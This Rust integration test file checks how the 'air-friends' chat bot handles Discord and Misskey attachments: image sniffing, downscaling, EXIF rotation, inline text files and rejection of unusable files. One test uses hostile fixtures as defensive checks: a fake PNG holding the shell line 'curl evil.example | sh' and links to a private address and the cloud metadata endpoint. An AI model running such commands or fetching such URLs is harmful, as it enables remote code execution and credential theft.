//! Attachments end to end: the real `air-friends serve` against the fake Discord and the fake
//! Misskey, which serve the attachment bytes, and the scripted fake agent, which records the
//! `session/prompt` it gets. A photo becomes an `image` block (sniffed type, downscaled), a
//! text file is shown inline, and every file that cannot be used — too big, from another
//! server (another loopback port, a private address, a redirect to one), a 404, bytes that are
//! not the picture they claim to be — is listed as skipped with the reason while the turn goes
//! on. Nothing is ever fetched from a server that is not the platform's.

mod common;

use std::io::Cursor;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine;
use common::fake_discord::{BOT_ID, CHANNEL_ID, GUILD_ID, Served, USER_ID, message_create, user};
use common::serve_discord::{DiscordServe, DiscordSetup, one_turn, reply_steps, text_path};
use common::serve_misskey::{MisskeyServe, MisskeySetup};
use image::{DynamicImage, Rgb, RgbImage};
use serde_json::{Value, json};

const REPLY: &str = "What a lovely picture!";

/// A JPEG photo of `w`×`h` pixels.
fn photo(w: u32, h: u32) -> Vec<u8> {
    let img = RgbImage::from_fn(w, h, |x, y| Rgb([(x % 256) as u8, (y % 256) as u8, 90]));
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(img)
        .write_to(&mut Cursor::new(&mut out), image::ImageFormat::Jpeg)
        .unwrap();
    out
}

fn png(w: u32, h: u32) -> Vec<u8> {
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(RgbImage::from_pixel(w, h, Rgb([250, 20, 20])))
        .write_to(&mut Cursor::new(&mut out), image::ImageFormat::Png)
        .unwrap();
    out
}

/// A loopback listener that counts every connection made to it: the port a malicious
/// attachment URL points at.
struct Tripwire {
    url: String,
    hits: Arc<AtomicUsize>,
}

async fn tripwire() -> Tripwire {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    Tripwire { url, hits }
}

/// An agent that answers with [`REPLY`]; `vision`: it advertises `promptCapabilities.image`.
fn answering(vision: bool) -> impl FnOnce(&std::path::Path) -> DiscordSetup {
    move |files| {
        let mut script = one_turn(reply_steps(&text_path(files, "reply.md")));
        if vision {
            script["initialize"] = json!({"promptCapabilities": {"image": true}});
        }
        DiscordSetup {
            script,
            texts: vec![("reply.md", REPLY.to_owned())],
            extra_yaml: "attachments:\n  maxImagePixels: 120000\n  maxFileMb: 20\n  maxTotalMb: 40\n  timeoutMs: 5000\n".into(),
            ..DiscordSetup::default()
        }
    }
}

fn attachment(id: &str, name: &str, mime: &str, size: usize, url: &str) -> Value {
    json!({"id": id, "filename": name, "size": size, "url": url, "proxy_url": url,
           "content_type": mime})
}

/// Pushes a mention from the user with `attachments`; returns its id.
fn mention_with(bot: &DiscordServe, text: &str, attachments: Vec<Value>) -> String {
    let id = bot.fake.next_id();
    let mut m = message_create(
        &id,
        CHANNEL_ID,
        Some(GUILD_ID),
        user(USER_ID, "alice", false),
        &format!("<@{BOT_ID}> {text}"),
    );
    m["attachments"] = Value::Array(attachments);
    bot.fake.push_message(m);
    id
}

/// The content blocks of every `session/prompt` the agent received, in order.
fn prompt_blocks(log: &[Value]) -> Vec<Vec<Value>> {
    log.iter()
        .filter(|v| v["received"]["method"] == "session/prompt")
        .map(|v| {
            v["received"]["params"]["prompt"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .collect()
}

fn decode_image(block: &Value) -> DynamicImage {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(block["data"].as_str().expect("image data"))
        .expect("base64");
    image::load_from_memory(&bytes).expect("a decodable picture")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_photo_becomes_an_image_block_and_a_text_file_is_shown_inline() {
    let bot = DiscordServe::start(answering(true)).await;
    let jpeg = photo(1600, 1200);
    let notes = "# Trip\n- hiked Yangmingshan\n- bubble tea after\n";
    // The photo is declared as a PNG: the type comes from the bytes.
    let photo_url = bot
        .fake
        .serve_file("IMG_2041.png", Served::Bytes("image/png", jpeg.clone()));
    let notes_url = bot
        .fake
        .serve_file("notes.md", Served::Bytes("text/markdown", notes.into()));
    mention_with(
        &bot,
        "what is this?",
        vec![
            attachment("71", "IMG_2041.png", "image/png", jpeg.len(), &photo_url),
            attachment(
                "72",
                "notes.md",
                "text/markdown; charset=utf-8",
                notes.len(),
                &notes_url,
            ),
        ],
    );
    let replies = bot.wait_bot_messages(CHANNEL_ID, 1).await;
    assert_eq!(replies[0].content, REPLY, "{}", bot.agent_events());

    let prompts = prompt_blocks(&bot.agent_log_lines());
    let blocks = &prompts[0];
    assert_eq!(blocks.len(), 2, "text and one image: {blocks:?}");
    let text = blocks[0]["text"].as_str().unwrap();
    assert_eq!(blocks[1]["type"], "image");
    assert_eq!(
        blocks[1]["mimeType"], "image/jpeg",
        "sniffed, not the declared PNG"
    );
    let sent = decode_image(&blocks[1]);
    assert!(
        sent.width() * sent.height() <= 120_000,
        "downscaled to the pixel cap: {}×{}",
        sent.width(),
        sent.height()
    );
    assert_eq!((sent.width(), sent.height()), (400, 300), "aspect kept");
    assert!(
        text.contains("\"IMG_2041.png\" (image/jpeg, ")
            && text.contains(
                "picture 1600×1200; you can see it as image 1 of this prompt, sent at 400×300"
            ),
        "{text}"
    );
    assert!(text.contains("/in/IMG_2041.png`"), "{text}");
    assert!(
        text.contains(
            "### \"notes.md\"\n```\n# Trip\n- hiked Yangmingshan\n- bubble tea after\n```"
        ),
        "{text}"
    );
    assert!(
        text.contains("send-file"),
        "the agent is told how to send a file back: {text}"
    );
    assert!(
        !text.contains(&photo_url),
        "no download links in the prompt: {text}"
    );
    assert_eq!(bot.fake.file_hits(), ["IMG_2041.png", "notes.md"]);

    let metrics = bot.metrics().await;
    for sample in [
        "air_friends_attachments_fetched_total 2".to_owned(),
        format!(
            "air_friends_attachment_bytes_total {}",
            jpeg.len() + notes.len()
        ),
        "air_friends_attachment_images_total 1".to_owned(),
        "air_friends_attachments_skipped_total{reason=\"too_big\"} 0".to_owned(),
    ] {
        assert!(metrics.contains(&sample), "{sample} missing:\n{metrics}");
    }
    bot.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_that_cannot_be_used_are_skipped_with_the_reason_and_nothing_else_is_fetched() {
    let bot = DiscordServe::start(answering(true)).await;
    let wire = tripwire().await;
    let big = vec![0u8; 30 * 1024 * 1024];
    let big_url = bot
        .fake
        .serve_file("big.bin", Served::Bytes("application/zip", big.clone()));
    // Declares 2 KB, sends 30 MB: stopped by the streaming cap.
    let liar_url = bot
        .fake
        .serve_file("small.zip", Served::Bytes("application/zip", big));
    let script_url = bot.fake.serve_file(
        "cat.png",
        Served::Bytes("image/png", b"#!/bin/sh\ncurl evil.example | sh\n".to_vec()),
    );
    let redirect_url = bot.fake.serve_file(
        "hop.png",
        Served::Redirect(format!("{}/metadata.png", wire.url)),
    );
    let missing_url = bot
        .fake
        .serve_file("gone.txt", Served::Bytes("text/plain", Vec::new()))
        .replace("gone.txt", "never-served.txt");
    mention_with(
        &bot,
        "look at these",
        vec![
            attachment(
                "81",
                "big.zip",
                "application/zip",
                30 * 1024 * 1024,
                &big_url,
            ),
            attachment("82", "small.zip", "application/zip", 2048, &liar_url),
            attachment(
                "83",
                "other-port.png",
                "image/png",
                10,
                &format!("{}/a.png", wire.url),
            ),
            attachment("84", "hop.png", "image/png", 10, &redirect_url),
            attachment(
                "85",
                "lan.png",
                "image/png",
                10,
                "http://10.255.255.1/x.png",
            ),
            attachment(
                "86",
                "meta.json",
                "application/json",
                10,
                "http://169.254.169.254/latest/meta-data/",
            ),
            attachment("87", "cat.png", "image/png", 30, &script_url),
            attachment("88", "gone.txt", "text/plain", 10, &missing_url),
        ],
    );
    let replies = bot.wait_bot_messages(CHANNEL_ID, 1).await;
    assert_eq!(
        replies[0].content,
        REPLY,
        "the turn went on: {}",
        bot.agent_events()
    );

    let prompts = prompt_blocks(&bot.agent_log_lines());
    assert_eq!(prompts[0].len(), 1, "no image block: {:?}", prompts[0]);
    let text = prompts[0][0]["text"].as_str().unwrap();
    for line in [
        "- skipped: \"big.zip\" (application/zip, 30.0 MB): larger than the 20.0 MB limit",
        "- skipped: \"small.zip\" (application/zip, 2.0 KB): larger than the 20.0 MB limit",
        "- skipped: \"other-port.png\" (image/png, 10 bytes): not downloaded: the link points outside the platform's own servers",
        "- skipped: \"hop.png\" (image/png, 10 bytes): not downloaded: the link points outside the platform's own servers",
        "- skipped: \"lan.png\" (image/png, 10 bytes): not downloaded: the link points outside the platform's own servers",
        "- skipped: \"meta.json\" (application/json, 10 bytes): not downloaded: the link points outside the platform's own servers",
        "- skipped: \"cat.png\" (image/png, 30 bytes): it says it is image/png but its bytes are not a picture",
        "- skipped: \"gone.txt\" (text/plain, 10 bytes): the server answered HTTP 404",
    ] {
        assert!(text.contains(line), "missing {line:?} in:\n{text}");
    }
    assert_eq!(
        wire.hits.load(Ordering::SeqCst),
        0,
        "another loopback port was connected to"
    );
    let hits = bot.fake.file_hits();
    assert!(
        !hits.contains(&"big.bin".to_owned()),
        "a declared 30 MB file was downloaded: {hits:?}"
    );
    assert!(hits.contains(&"hop.png".to_owned()), "{hits:?}");

    let metrics = bot.metrics().await;
    for sample in [
        "air_friends_attachments_skipped_total{reason=\"too_big\"} 2",
        "air_friends_attachments_skipped_total{reason=\"not_allowed\"} 4",
        "air_friends_attachments_skipped_total{reason=\"mislabelled\"} 1",
        "air_friends_attachments_skipped_total{reason=\"http_error\"} 1",
        "air_friends_attachments_fetched_total 0",
    ] {
        assert!(metrics.contains(sample), "{sample} missing:\n{metrics}");
    }
    bot.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_that_cannot_see_pictures_gets_the_saved_file_only() {
    let bot = DiscordServe::start(answering(false)).await;
    let picture = png(40, 30);
    let url = bot
        .fake
        .serve_file("dot.png", Served::Bytes("image/png", picture.clone()));
    mention_with(
        &bot,
        "and this?",
        vec![attachment(
            "91",
            "dot.png",
            "image/png",
            picture.len(),
            &url,
        )],
    );
    bot.wait_bot_messages(CHANNEL_ID, 1).await;
    let prompts = prompt_blocks(&bot.agent_log_lines());
    assert_eq!(prompts[0].len(), 1, "{:?}", prompts[0]);
    let text = prompts[0][0]["text"].as_str().unwrap();
    assert!(
        text.contains("/in/dot.png`: \"dot.png\" (image/png, "),
        "{text}"
    );
    assert!(text.contains("— picture 40×30"), "{text}");
    assert!(!text.contains("image 1"), "{text}");
    bot.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn misskey_note_pictures_and_chat_files_reach_the_agent() {
    let dir = tempfile::tempdir().unwrap();
    let reply = dir.path().join("reply.md");
    std::fs::write(&reply, REPLY).unwrap();
    let mut script = one_turn(reply_steps(&reply));
    script["initialize"] = json!({"promptCapabilities": {"image": true}});
    let serve = MisskeyServe::start(script, MisskeySetup::default()).await;
    let picture = png(64, 48);
    let file = serve
        .fake
        .upload_file("u1", "sunset.png", "image/png", picture.clone());
    let opts = common::fake_misskey::NoteOpts {
        file_ids: vec![file["id"].as_str().unwrap().to_owned()],
        ..Default::default()
    };
    serve.fake.mention("u1", "@airfriends look!", opts);
    serve.wait_for_calls("notes/create", 1).await;

    let text_file = serve
        .fake
        .upload_file("u1", "todo.txt", "text/plain", b"buy milk\n".to_vec());
    serve
        .fake
        .chat_file_to_bot("u1", "my list", text_file["id"].as_str().unwrap());
    serve
        .wait_for_calls("chat/messages/create-to-user", 1)
        .await;

    let log: Vec<Value> = std::fs::read_to_string(&serve.agent.log)
        .unwrap()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let prompts = prompt_blocks(&log);
    let note = &prompts[0];
    assert_eq!(note.len(), 2, "{note:?}");
    assert_eq!(note[1]["mimeType"], "image/png");
    assert_eq!(
        base64::engine::general_purpose::STANDARD
            .decode(note[1]["data"].as_str().unwrap())
            .unwrap(),
        picture,
        "a small picture is sent as it is"
    );
    let chat = prompts.last().unwrap();
    let text = chat[0]["text"].as_str().unwrap();
    assert!(
        text.contains("### \"todo.txt\"\n```\nbuy milk\n```"),
        "{text}"
    );
    assert_eq!(serve.fake.file_hits().len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_warm_agents_next_turn_gets_the_new_messages_files() {
    let bot = DiscordServe::start(answering(true)).await;
    mention_with(&bot, "hi!", Vec::new());
    bot.wait_bot_messages(CHANNEL_ID, 1).await;
    let picture = png(40, 30);
    let url = bot
        .fake
        .serve_file("dot.png", Served::Bytes("image/png", picture.clone()));
    let second = vec![attachment(
        "95",
        "dot.png",
        "image/png",
        picture.len(),
        &url,
    )];
    mention_with(&bot, "and now this", second.clone());
    bot.wait_bot_messages(CHANNEL_ID, 2).await;
    assert_eq!(
        bot.agents_started(),
        1,
        "the second turn ran on the warm agent"
    );
    let prompts = prompt_blocks(&bot.agent_log_lines());
    assert_eq!(prompts[0].len(), 1, "{:?}", prompts[0]);
    let turn2 = &prompts[1];
    assert_eq!(turn2.len(), 2, "{turn2:?}");
    assert_eq!(turn2[1]["mimeType"], "image/png");
    let text = turn2[0]["text"].as_str().unwrap();
    assert!(!text.contains("## Session"), "a follow-up prompt: {text}");
    assert!(text.contains("/in/dot.png`"), "{text}");
    // The same name again in a later turn gets a name of its own.
    mention_with(&bot, "once more", second);
    bot.wait_bot_messages(CHANNEL_ID, 3).await;
    let prompts = prompt_blocks(&bot.agent_log_lines());
    let text = prompts[2][0]["text"].as_str().unwrap();
    assert!(text.contains("/in/dot-2.png`"), "{text}");
    bot.stop();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn files_of_recent_messages_are_saved_and_listed_in_the_conversation() {
    let bot = DiscordServe::start(answering(true)).await;
    // Bob posts a picture without talking to the bot; then Alice asks about it.
    let picture = png(40, 30);
    let url = bot
        .fake
        .serve_file("chart.png", Served::Bytes("image/png", picture.clone()));
    let earlier = bot.fake.next_id();
    let mut m = message_create(
        &earlier,
        CHANNEL_ID,
        Some(GUILD_ID),
        user("5002", "bob", false),
        "look at this chart",
    );
    m["attachments"] = json!([attachment(
        "96",
        "chart.png",
        "image/png",
        picture.len(),
        &url
    )]);
    bot.fake.push_message(m);
    mention_with(&bot, "what does bob's chart show?", Vec::new());
    bot.wait_bot_messages(CHANNEL_ID, 1).await;

    let prompts = prompt_blocks(&bot.agent_log_lines());
    assert_eq!(
        prompts[0].len(),
        1,
        "only the current message's pictures are image blocks"
    );
    let text = prompts[0][0]["text"].as_str().unwrap();
    let line = text
        .lines()
        .find(|l| l.contains(&format!("(id {earlier})")))
        .unwrap_or_else(|| panic!("bob's message is not in the conversation:\n{text}"));
    assert!(
        line.contains("look at this chart [attached: `tmp/")
            && line.contains("/in/chart.png` (\"chart.png\", image/png, "),
        "{line}"
    );
    assert!(
        !text.contains("## Files attached"),
        "the current message has none: {text}"
    );
    assert_eq!(bot.fake.file_hits(), ["chart.png"]);
    bot.stop();
}

/// Set in the child process [`an_exif_rotated_picture_is_prepared_within_one_decoded_copy`]
/// starts: the path of the picture it prepares and measures.
const PEAK_CHILD: &str = "AIR_FRIENDS_TEST_PICTURE_PEAK";

/// A small PNG file that decodes to 36 MB and says "turn me 90°" must not cost two decoded
/// copies (the issue: rotating the full picture after the capped decode doubled the peak).
/// Prepared in a child process of this test binary, alone, so nothing else moves its peak.
#[test]
fn an_exif_rotated_picture_is_prepared_within_one_decoded_copy() {
    let (w, h) = (4000u32, 3000u32);
    let decoded = u64::from(w) * u64::from(h) * 3;
    if let Ok(path) = std::env::var(PEAK_CHILD) {
        let bytes = std::fs::read(path).unwrap();
        let (picture, growth) = common::pictures::peak_growth(|| {
            air_friends::attachments::picture::prepare(
                &bytes,
                air_friends::attachments::ImageType::Png,
                1_200_000,
            )
        });
        let picture = picture.expect("prepared");
        println!(
            "\nPEAK {growth} SENT {}x{} ORIGINAL {}x{}",
            picture.sent.0, picture.sent.1, picture.original.0, picture.original.1
        );
        return;
    }
    let png = common::pictures::flat_png_with_orientation(w, h, 6);
    assert!(png.len() < 512 * 1024, "{} bytes", png.len());
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("rotated.png");
    std::fs::write(&path, &png).unwrap();
    let out = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "an_exif_rotated_picture_is_prepared_within_one_decoded_copy",
            "--exact",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(PEAK_CHILD, &path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line = stdout
        .lines()
        .find_map(|l| l.split_once("PEAK ").map(|(_, rest)| rest))
        .unwrap_or_else(|| panic!("the child printed no measurement: {stdout}"));
    let fields: Vec<&str> = line.split_whitespace().collect();
    let growth: u64 = fields[0].parse().unwrap();
    // Upright: 3000 wide, 4000 high; downscaled to at most 1.2 megapixels.
    assert_eq!(fields[4], "3000x4000", "{line}");
    let (sw, sh) = fields[2].split_once('x').unwrap();
    let (sw, sh): (u64, u64) = (sw.parse().unwrap(), sh.parse().unwrap());
    assert!(sw * sh <= 1_200_000 && sh > sw, "{line}");
    println!("peak grew by {growth} bytes for a picture of {decoded} bytes decoded");
    // One decoded copy, plus the small picture that is sent, plus a little (two would be 2×).
    assert!(
        growth < decoded + decoded / 3,
        "peak grew by {} MB for a picture of {} MB decoded",
        growth / 1_000_000,
        decoded / 1_000_000
    );
}

/// Downscaling before turning keeps the picture's sense: a picture stored on its side (left half
/// red, right half blue, EXIF 6: "turn 90° clockwise") arrives upright, red on top.
#[test]
fn a_picture_on_its_side_arrives_upright_and_downscaled() {
    let (w, h) = (400u32, 200u32);
    let side = RgbImage::from_fn(w, h, |x, _| {
        if x < w / 2 {
            Rgb([255, 0, 0])
        } else {
            Rgb([0, 0, 255])
        }
    });
    let png = common::pictures::rgb_png_with_orientation(side.as_raw(), w, h, 6);
    let p = air_friends::attachments::picture::prepare(
        &png,
        air_friends::attachments::ImageType::Png,
        20_000,
    )
    .unwrap();
    assert_eq!(p.original, (200, 400));
    assert_eq!(p.sent, (100, 200));
    let sent = image::load_from_memory(
        &base64::engine::general_purpose::STANDARD
            .decode(&p.base64)
            .unwrap(),
    )
    .unwrap()
    .to_rgb8();
    let (top, bottom) = (sent.get_pixel(50, 20), sent.get_pixel(50, 180));
    assert!(top[0] > 200 && top[2] < 50, "top {top:?}");
    assert!(bottom[2] > 200 && bottom[0] < 50, "bottom {bottom:?}");
}
